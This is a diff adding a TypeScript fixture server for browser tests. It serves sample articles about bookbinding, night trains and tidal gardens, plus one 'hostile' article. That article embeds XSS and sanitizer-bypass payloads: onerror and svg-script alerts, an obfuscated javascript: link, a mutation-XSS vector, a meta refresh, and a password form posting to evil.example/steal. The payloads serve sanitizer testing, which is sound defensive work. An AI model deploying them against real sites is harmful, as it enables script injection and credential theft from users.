@@ -1,0 +1,228 @@
+// A small "news site" on loopback for the browser tests to save articles from. The test server
+// may fetch it because playwright.config.ts names its host:port in FETCH_ALLOW_PRIVATE_HOSTS.
+import http from 'node:http';
+
+export const FIXTURE_SITE_PORT = Number(process.env.E2E_FIXTURE_PORT ?? 3219);
+export const FIXTURE_SITE_HOST = `127.0.0.1:${FIXTURE_SITE_PORT}`;
+export const FIXTURE_SITE_ORIGIN = `http://${FIXTURE_SITE_HOST}`;
+
+type FixtureArticle = {
+  title: string;
+  byline: string;
+  description: string;
+  /** Path of the Open Graph image ('/images/missing.svg' answers 404). */
+  image: string;
+  body: string;
+};
+
+const p = (text: string) => `<p>${text}</p>`;
+
+const FILLER = [
+  'Most of what we read in a day is forgotten by the evening, and that is fine; the pieces worth keeping are the ones we come back to, slowly, when the noise has died down.',
+  'A good reading habit is less about speed than about attention. It asks for a quiet hour, a comfortable chair and a text that has been freed from everything that competes with it.',
+  'Writers who know this leave room for the reader: short paragraphs where the argument turns, longer ones where it gathers weight, and headings only where a pause is earned.',
+  'The best long reads reward a second visit. Details missed the first time surface, quotations land differently, and the structure of the whole becomes visible at last.',
+];
+
+function figure(src: string, caption: string): string {
+  return `<figure><img src="${src}" alt="${caption}" width="1200" height="675"><figcaption>${caption}</figcaption></figure>`;
+}
+
+/** Named articles: real-looking pages with a figure, a quote, a list and code. */
+const ARTICLES: Record<string, FixtureArticle> = {
+  'quiet-craft-of-bookbinding': {
+    title: 'The Quiet Craft of Bookbinding',
+    byline: 'By Mara Ellison',
+    description: 'Inside a small bindery where every book is sewn by hand.',
+    image: '/images/bindery.svg',
+    body: [
+      p(
+        'In a narrow workshop above a bakery, three binders spend their days folding, sewing and pressing paper into books that are meant to outlast their owners. The smell of bread drifts up the stairs; the sound of a bone folder creasing paper is the only other noise.',
+      ),
+      p(
+        'Bookbinding is one of the few crafts that has hardly changed in five hundred years. The tools are the same: a needle, linen thread, a press, paste made from wheat starch. What has changed is how rare the work has become, and how much patience it now seems to ask of anyone who tries it.',
+      ),
+      figure('/images/bindery.svg', 'Signatures waiting to be sewn at the bindery.'),
+      '<h2>Sewing the signatures</h2>',
+      p(
+        'Each book begins as a stack of folded sheets called signatures. The binder pierces every fold along a template and sews the signatures together over tapes, one after another, pulling each stitch just tight enough to hold without tearing the paper.',
+      ),
+      '<blockquote><p>A book that opens flat is a book that was sewn by someone who cared about the reader’s hands.</p></blockquote>',
+      p(
+        'The rhythm of the work is calming. A practised binder can sew a thirty-signature book in an afternoon, but nobody here is in a hurry; mistakes in the sewing show up years later, when the spine begins to crack.',
+      ),
+      '<h2>What a beginner needs</h2>',
+      '<ul><li>A bone folder and a metal ruler</li><li>Linen thread and a blunt needle</li><li>Wheat starch paste and a stiff brush</li></ul>',
+      p(
+        'For those who want to keep records of their practice, one binder keeps a tiny script that prints a sewing template for any number of stations:',
+      ),
+      '<pre><code class="language-js">const stations = (height, count) =>\n  Array.from({ length: count }, (_, i) => ((i + 1) * height) / (count + 1));</code></pre>',
+      ...FILLER.map(p),
+    ].join('\n'),
+  },
+  'night-trains-of-europe': {
+    title: 'Night Trains Are Back, and They Are Slower Than Ever',
+    byline: 'By Tomas Reyes',
+    description: 'Why a generation of travellers is choosing the sleeper car.',
+    image: '/images/night-train.svg',
+    body: [
+      p(
+        'The 21:40 from Vienna pulls out with its blinds half drawn. In the couchettes, strangers negotiate over who gets the lower bunk; in the corridor, a conductor hands out bottles of water and small packets of biscuits that nobody will eat until morning.',
+      ),
+      p(
+        'A decade ago most of these routes had been cancelled. Today they are sold out weeks ahead, carried by travellers who would rather spend a night rolling through the dark than an afternoon in an airport queue.',
+      ),
+      figure('/images/night-train.svg', 'A sleeper train waits at the platform before departure.'),
+      '<h2>The appeal of slowness</h2>',
+      p(
+        'Ask passengers why they chose the train and few mention the climate first. They talk about arriving in the centre of a city at dawn, about reading until the rocking sends them to sleep, about the odd intimacy of a shared compartment.',
+      ),
+      '<blockquote><p>You do not take a night train to save time. You take it to get some back.</p></blockquote>',
+      ...FILLER.map(p),
+    ].join('\n'),
+  },
+  'tidal-gardens': {
+    title: 'Gardens at the Edge of the Tide',
+    byline: 'By Ines Carvalho',
+    description: 'Salt-tolerant gardens are changing coastal towns.',
+    // The Open Graph image is gone from the site: the reader must hide it, not show a broken one.
+    image: '/images/missing.svg',
+    body: [
+      p(
+        'Along the estuary, where the river meets the sea twice a day, a group of volunteers has planted gardens that flood at every high tide. Samphire, sea lavender and cordgrass grow where lawns once drowned.',
+      ),
+      p(
+        'The gardens began as an experiment in flood defence. They have become something else: a place where the town comes to walk at low water, reading the mud for footprints of herons and crabs.',
+      ),
+      '<h2>Learning from the salt marsh</h2>',
+      ...FILLER.map(p),
+    ].join('\n'),
+  },
+};
+
+/** Hostile markup (SECURITY.md 18) inside an otherwise ordinary article. */
+const HOSTILE: FixtureArticle = {
+  title: 'A Perfectly Ordinary Article',
+  byline: 'By Mallory',
+  description: 'Nothing to see here.',
+  image: '/images/bindery.svg',
+  body: [
+    p('This page looks like any other long read, but its markup tries every trick in the book.'),
+    '<img src="x" onerror="alert(1)">',
+    '<svg><script>alert(2)</script></svg>',
+    '<p><a href="java&#09;script:alert(3)">A link that is not a link</a></p>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>',
+    '<form action="https://evil.example/steal"><input type="password" name="pw"><button>Log in</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<p onclick="alert(5)" style="position:fixed;inset:0">Clicking this paragraph must do nothing.</p>',
+    '<p><a href="https://example.org/elsewhere">An ordinary outbound link</a> sits in this paragraph.</p>',
+    ...FILLER.map(p),
+  ].join('\n'),
+};
+
+function numbered(n: number): FixtureArticle {
+  return {
+    title: `Field Notes No. ${n}`,
+    byline: 'By the Field Desk',
+    description: `The ${n}th entry in a long series of field notes.`,
+    image: '/images/bindery.svg',
+    body: [
+      p(
+        `Field note number ${n} records a walk along the same path at a different hour. The light changes, the birds change, and the walker notices something new each time.`,
+      ),
+      ...FILLER.map(p),
+    ].join('\n'),
+  };
+}
+
+function page(article: FixtureArticle): string {
+  return `<!doctype html>
+<html lang="en"><head><meta charset="utf-8">
+<title>${article.title} | The Slow Review</title>
+<meta property="og:title" content="${article.title}">
+<meta property="og:site_name" content="The Slow Review">
+<meta property="og:image" content="${article.image}">
+<meta name="description" content="${article.description}">
+</head><body>
+<nav><a href="/">Home</a> <a href="/culture">Culture</a> <a href="/travel">Travel</a></nav>
+<main><article>
+<h1>${article.title}</h1>
+<p class="byline">${article.byline}</p>
+${article.body}
+</article></main>
+<footer><p>© The Slow Review</p><a href="/subscribe">Subscribe</a></footer>
+</body></html>`;
+}
+
+function image(label: string, hue: number): string {
+  return `<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="675" viewBox="0 0 1200 675">
+<defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
+<stop offset="0" stop-color="hsl(${hue} 70% 82%)"/><stop offset="1" stop-color="hsl(${hue + 30} 55% 58%)"/>
+</linearGradient></defs>
+<rect width="1200" height="675" fill="url(#g)"/>
+<circle cx="930" cy="190" r="120" fill="hsl(${hue} 90% 95%)" opacity="0.6"/>
+<path d="M0 520 C 300 430 500 600 800 500 S 1100 420 1200 470 V 675 H 0 Z" fill="hsl(${hue + 20} 40% 40%)" opacity="0.55"/>
+<text x="80" y="600" font-family="Georgia, serif" font-size="56" fill="white" opacity="0.9">${label}</text>
+</svg>`;
+}
+
+const IMAGES: Record<string, string> = {
+  '/images/bindery.svg': image('The Bindery', 30),
+  '/images/night-train.svg': image('Night Train', 220),
+};
+
+/** Every page a test may save: the named ones and /articles/n/1 … /articles/n/200. */
+export function fixtureUrl(path: string): string {
+  return `${FIXTURE_SITE_ORIGIN}${path}`;
+}
+
+export const FIXTURE_ARTICLES = {
+  bookbinding: {
+    path: '/articles/quiet-craft-of-bookbinding',
+    ...ARTICLES['quiet-craft-of-bookbinding']!,
+  },
+  nightTrains: { path: '/articles/night-trains-of-europe', ...ARTICLES['night-trains-of-europe']! },
+  tidalGardens: { path: '/articles/tidal-gardens', ...ARTICLES['tidal-gardens']! },
+  hostile: { path: '/articles/hostile', ...HOSTILE },
+  numbered: (n: number) => ({ path: `/articles/n/${n}`, ...numbered(n) }),
+};
+
+/** Starts the site; resolves to a function that stops it. */
+export async function startFixtureSite(port = FIXTURE_SITE_PORT): Promise<() => Promise<void>> {
+  const server = http.createServer((req, res) => {
+    const path = new URL(req.url ?? '/', FIXTURE_SITE_ORIGIN).pathname;
+    const html = (body: string) => {
+      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
+      res.end(body);
+    };
+    const named = /^\/articles\/([a-z-]+)$/.exec(path)?.[1];
+    const article = named === 'hostile' ? HOSTILE : named ? ARTICLES[named] : undefined;
+    if (article) return html(page(article));
+    const n = Number(/^\/articles\/n\/(\d{1,3})$/.exec(path)?.[1]);
+    if (n >= 1 && n <= 200) return html(page(numbered(n)));
+    const svg = IMAGES[path];
+    if (svg) {
+      res.writeHead(200, { 'Content-Type': 'image/svg+xml', 'Cache-Control': 'max-age=3600' });
+      return res.end(svg);
+    }
+    res.writeHead(404, { 'Content-Type': 'text/plain' });
+    res.end('not found');
+  });
+  await new Promise<void>((resolve, reject) => {
+    server.once('error', (error: NodeJS.ErrnoException) =>
+      reject(
+        error.code === 'EADDRINUSE'
+          ? new Error(
+              `The browser tests' fixture site needs ${FIXTURE_SITE_HOST}, which is in use (another Playwright run?). Wait for it to finish, or set E2E_FIXTURE_PORT.`,
+            )
+          : error,
+      ),
+    );
+    server.listen(port, '127.0.0.1', resolve);
+  });
+  return () =>
+    new Promise<void>((resolve) => {
+      server.closeAllConnections();
+      server.close(() => resolve());
+    });
+}
